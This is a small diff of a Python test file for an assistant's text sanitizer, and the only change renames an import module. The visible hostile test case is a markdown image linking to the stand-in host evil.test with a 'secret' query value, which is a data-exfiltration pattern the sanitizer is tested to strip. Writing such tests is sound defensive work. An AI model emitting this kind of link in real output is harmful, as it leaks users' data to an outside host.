@@ -2,7 +2,7 @@
 
 import pytest
 
-from fieldguide_server.assistant.text.sanitize import Guard, clean, harmless
+from fieldguide_server.assistant.text.sanitizer import Guard, clean, harmless
 
 HOSTILE = [
     ("a ![x](https://evil.test/?q=secret) b", "a x b"),
